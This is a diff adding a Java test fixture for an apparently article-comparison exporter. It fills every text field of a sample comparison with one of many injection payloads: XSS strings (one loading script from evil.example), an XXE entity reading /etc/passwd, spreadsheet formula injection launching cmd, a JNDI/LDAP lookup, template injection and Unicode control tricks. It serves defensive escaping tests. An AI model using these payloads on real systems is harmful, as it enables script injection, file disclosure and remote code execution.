@@ -1,0 +1,117 @@
+package crossread.export;
+
+import crossread.model.Article;
+import crossread.model.Block;
+import crossread.model.BlockKind;
+import crossread.model.Comparison;
+import crossread.model.Correction;
+import crossread.model.Coverage;
+import crossread.model.Fact;
+import crossread.model.FactKind;
+import crossread.model.Matching;
+import crossread.model.Mention;
+import crossread.model.Metadata;
+import crossread.model.Nearest;
+import crossread.model.Origin;
+import crossread.model.Reason;
+import crossread.model.Sentence;
+import crossread.model.SentenceAnchor;
+import crossread.model.SentenceRef;
+import crossread.model.SetAside;
+import crossread.model.Span;
+import crossread.model.Speaker;
+import crossread.model.Trust;
+import crossread.model.Value;
+import crossread.model.Warning;
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+
+/** A comparison from a stranger who put the same attack into every field that can hold text. */
+public final class HostileStory {
+    /** Texts that do harm where they are taken for anything but text. */
+    public static final List<String> ATTACKS = List.of(
+            "<script>alert(1)</script>",
+            "</p></section></main><script src=//evil.example/x.js></script>",
+            "\"><img src=x onerror=alert(1)>",
+            "' onmouseover='alert(1)' x='",
+            "<svg/onload=alert(1)>",
+            "</title><script>alert(1)</script>",
+            "</style><style>@import 'https://evil.example';</style>",
+            "<!--><script>alert(1)</script>-->",
+            "<![CDATA[<script>alert(1)</script>]]>",
+            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
+            "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
+            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><base href=//evil.example><meta http-equiv=refresh>",
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(1)//https://fine.example/",
+            "data:text/html,<script>alert(1)</script>",
+            "https://user:pass@evil.example/\" onclick=\"alert(1)",
+            "[click](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>",
+            "# heading\n\n- item\n1. item\n| a | b |\n```\n<b>x</b>",
+            "=HYPERLINK(\"https://evil.example\",\"click\")",
+            "+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "\u0000\u0001\u0008\u000B\u000C\u001B[31m\u007F\u0085\uFFFE\uFFFF",
+            "\uD800 a lone half of a letter \uDC00",
+            "\u202Etxt.exe\u202C \u2066x\u2069",
+            "{0} '{'1}' %s ${jndi:ldap://evil.example/a} {{7*7}}");
+
+    private HostileStory() {}
+
+    /** A story in which every text is {@code attack}. */
+    public static Comparison of(String attack) {
+        Article one = article("A", attack);
+        Article two = article("B", attack);
+        SentenceRef here = new SentenceRef("A", 0);
+        SentenceRef there = new SentenceRef("B", 0);
+        Mention mention = new Mention(
+                here,
+                new Span(0, Math.min(3, attack.length())),
+                FactKind.QUOTATION,
+                new Value.Quotation(attack, Optional.of(attack)),
+                Optional.of(new Speaker(attack, 0, Optional.empty())));
+        Fact fact = new Fact(
+                "f1",
+                FactKind.QUOTATION,
+                attack,
+                mention.value(),
+                new Coverage.OnlyIn("A"),
+                1,
+                false,
+                List.of(mention),
+                List.of(new Nearest(there, .4, List.of(attack))),
+                Optional.of(attack));
+        Correction correction = new Correction.Cut(SentenceAnchor.of(one, 0), SentenceAnchor.of(two, 0));
+        return new Comparison(
+                        attack,
+                        Instant.parse("2026-03-02T10:00:00Z"),
+                        attack,
+                        Matching.LEXICAL,
+                        List.of(one, two),
+                        List.of(),
+                        List.of(),
+                        List.of(fact),
+                        List.of())
+                .withCorrections(List.of(correction));
+    }
+
+    private static Article article(String id, String attack) {
+        Metadata known = new Metadata(
+                Optional.of(attack),
+                Optional.of(attack),
+                Optional.of(attack),
+                Optional.empty(),
+                Optional.of(attack),
+                Optional.of(attack));
+        Block aside =
+                Block.kept(attack, BlockKind.PARAGRAPH).setAside(SetAside.because(Reason.ADVERT, attack, Trust.ASK));
+        return new Article(
+                id,
+                known,
+                new Origin(attack, attack, 12, attack),
+                List.of(Block.kept(attack, BlockKind.PARAGRAPH), aside),
+                List.of(new Sentence(0, new Span(0, attack.length()), attack)),
+                List.of(Warning.of(attack, attack)));
+    }
+}
